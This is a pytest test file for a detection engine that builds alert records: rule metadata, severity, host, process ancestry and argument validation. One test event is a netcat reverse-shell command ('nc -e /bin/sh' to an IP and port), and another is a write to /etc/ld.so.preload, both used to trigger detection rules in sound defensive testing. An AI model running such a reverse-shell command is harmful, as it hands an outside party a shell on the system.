"""Alert records built from matches."""

from __future__ import annotations

import pytest

from controller.detection import DetectionEngine, build_alert


@pytest.fixture(scope="module")
def engine() -> DetectionEngine:
    e = DetectionEngine()
    assert e.load([]).ok
    return e


def test_alert_carries_rule_severity_host_event_and_ancestry(engine, ev):
    event = ev.exec("/usr/bin/nc", "nc -e /bin/sh 203.0.113.9 4444")
    (match,) = engine.match(event)
    chain = [
        {"pid": 100, "executable": "/usr/bin/bash", "command_line": "-bash"},
        {"pid": 1, "executable": "/usr/lib/systemd/systemd"},
    ]
    alert = build_alert(match, ancestry=chain, epoch_ns=1_700_000_000_123_456_789)
    assert alert["@timestamp"] == "2023-11-14T22:13:20.123456Z"
    assert alert["rule"]["name"] == "Netcat Or Socat Attaching A Shell To A Connection"
    assert alert["rule"]["id"] == "ad18e383-6f48-44cc-afe7-854e07e1ebed"
    assert alert["rule"]["level"] == "high" and alert["severity"] == 75
    assert "attack.t1059.004" in alert["rule"]["tags"]
    assert alert["host"] == ev.host
    assert alert["event"] is event
    assert alert["action"] == "exec"
    assert alert["ancestry"] == chain and alert["ancestry"][0] is not chain[0]
    assert alert["status"] == "open"
    assert build_alert(match)["id"] != alert["id"]


def test_host_from_the_controller_wins(engine, ev):
    (match,) = engine.match(ev.file("/etc/ld.so.preload"))
    alert = build_alert(match, host={"id": "from-cert", "name": "db-2"})
    assert alert["host"] == {"id": "from-cert", "name": "db-2"}
    assert alert["severity"] == 100 and alert["ancestry"] == []


def test_bad_arguments_are_refused(engine, ev):
    (match,) = engine.match(ev.file("/etc/ld.so.preload"))
    with pytest.raises(TypeError, match="host"):
        build_alert(match, host="db-2")  # type: ignore[arg-type]
    with pytest.raises(TypeError, match="ancestry"):
        build_alert(match, ancestry="bash")  # type: ignore[arg-type]
    with pytest.raises(TypeError, match=r"ancestry\[1\]"):
        build_alert(match, ancestry=[{"pid": 1}, 42])  # type: ignore[list-item]
